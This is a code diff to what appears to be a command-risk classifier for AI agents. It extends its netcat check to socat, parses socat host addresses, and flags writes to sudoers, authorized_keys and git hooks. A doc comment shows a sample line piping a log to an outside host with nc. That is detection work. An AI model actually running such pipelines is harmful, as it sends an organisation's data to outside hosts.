@@ -1,6 +1,6 @@
 import { CAPABILITIES } from '@plimsoll/contracts'
-import { type Effects, createEffects, does, raise, signal } from '../../effects.js'
-import { actsOn, actsOnPath, actsOnUnnamed, namesOfFed, wordsIn } from '../../objects.js'
+import { type Effects, createEffects, does, raise } from '../../effects.js'
+import { actsOn, actsOnUnnamed, namesOfFed, namesOfPath, wordsIn } from '../../objects.js'
 import { PATH_KINDS, opensDoor, pathKindOf } from '../../paths.js'
 import { raiseWords } from '../../code.js'
 import { readOtherQuery } from '../../sql/other-queries.js'
@@ -8,6 +8,7 @@ import { readPossibleSql } from '../../sql/read-sql.js'
 import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
+import { onlyLooks } from './looks.js'
 import { COMMAND_LABELS } from './commands.js'
 
 const { DESTROY } = COMMAND_LABELS
@@ -54,7 +55,7 @@ export function noteShellActs(call: Call, context: ShellContext): void {
     noteLiveChange(args[hostAt(args)] ?? '', elsewhere, context)
   noteTableActs(call, effects)
   noteFedSocket(call, context)
-  if (GRANT_COMMANDS.has(name) && args.length > 0)
+  if (GRANT_COMMANDS.has(name) && args.length > 0 && !onlyLooks(call))
     raiseIrreversible('grant', 'a command that lets somebody in', effects)
   if (CHANGES_SECRETS.has(name) && !args.some((arg) => /^(?:-S|--status)$/.test(arg)))
     raiseIrreversible('credential', 'a command that changes a password', effects)
@@ -97,12 +98,16 @@ export function noteShellActs(call: Call, context: ShellContext): void {
 /** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
 function noteFedSocket(call: Call, context: ShellContext): void {
   if (!SOCKETS.has(call.name) || (!call.piped && call.fed === undefined)) return
-  const [host = ''] = operandsOf(call)
-  if (hasOption(call, 'l', '--listen') || placeOfHost(host, context) !== 'outside') return
+  const [host = ''] = operandsOf(call).flatMap((word) =>
+    call.name === 'socat' ? (OF_SOCAT.exec(word)?.[1] ?? []) : word,
+  )
+  if (host === '' || hasOption(call, 'l', '--listen') || placeOfHost(host, context) !== 'outside') return
   raiseIrreversible('send', 'what a command is fed goes to another host', context.effects)
-  actsOn(context.effects, 'send', { kind: 'host', names: [host, ...wordsIn(host)] })
+  actsOn(context.effects, 'send', { kind: 'host', byName: true, names: [host, ...wordsIn(host)] })
 }
-const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat'])
+const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat'])
+/** The host of an address of `socat`: `TCP:paste.example.net:9999`. */
+const OF_SOCAT = /^(?:tcp|tcp4|tcp6|udp|udp4|openssl|ssl)(?:-connect)?:([\w.-]{1,253}):/i
 
 /** MongoDB shell methods that let somebody in. */
 const ADMITS =
@@ -173,14 +178,18 @@ const WRITE = CAPABILITIES.indexOf('write')
 function noteLiveChange(host: string, text: string, context: ShellContext): void {
   if (text.startsWith('-')) return
   const effects = createEffects()
-  context.nested(text.replace(/^\s{0,8}sudo\s(?!\s*-)/, ''), { ...context, effects, piped: true })
+  context.nested(text.replaceAll(/(^|[;&|(])\s{0,8}sudo\s(?!\s{0,8}-)/g, '$1'), {
+    ...context,
+    effects,
+    piped: true,
+  })
   if (effects.capability < WRITE || effects.reversibility === 0) return
   raiseIrreversible('publish', 'a command that changes something on another host', context.effects)
-  signal(context.effects, 'byName', 1)
   const name = host.split('@').at(-1) ?? host
   actsOn(context.effects, 'deploy', {
     kind: 'host',
     reach: 'live',
+    byName: true,
     names: [name, host, name.split('.')[0] ?? name, ...wordsIn(name)],
   })
 }
@@ -227,14 +236,13 @@ const OF_EXEC = /^(?:-[uewnc]|--(?:user|env|workdir|index|namespace|container|de
 /** Records writes to files that control access: `authorized_keys`, `sudoers`, `/etc/passwd`, a crontab, an agent's settings. */
 export function noteDoor(path: string, effects: Effects): void {
   if (/\/(?:sources\.list\.d|yum\.repos\.d)\//.test(path)) {
-    signal(effects, 'byName', 1)
-    actsOnPath(effects, 'persist', path)
+    actsOn(effects, 'persist', { kind: 'path', names: namesOfPath(path), thing: path, byName: true })
   }
   if (pathKindOf(path) === PATH_KINDS.guard) noteSettings(path, effects)
   if (/[\\/]hooks[\\/][\w-]{1,64}$/.test(path) && /\.git[\\/]/.test(path)) {
-    signal(effects, 'byName', 1)
     actsOn(effects, 'persist', {
       kind: 'path',
+      byName: true,
       names: ['hook', path.split(/[\\/]/).at(-1) ?? ''],
       thing: path,
     })
@@ -256,8 +264,7 @@ function noteSettings(path: string, effects: Effects): void {
   const agent = parts[at]?.replace(/^\./, '') ?? ''
   if (/plimsoll/i.test(path) || name.startsWith('.mcp') || agent === '')
     return actsOnUnnamed(effects, 'control', 'setting', 'control')
-  signal(effects, 'byName', 1)
-  const setting = { kind: 'setting', reach: 'control', thing: path } as const
+  const setting = { kind: 'setting', reach: 'control', thing: path, byName: true } as const
   const place = parts.slice(at).join('/')
   if (parts[at + 1] === 'hooks')
     return actsOn(effects, 'control', { ...setting, names: [name, 'hook', place] })
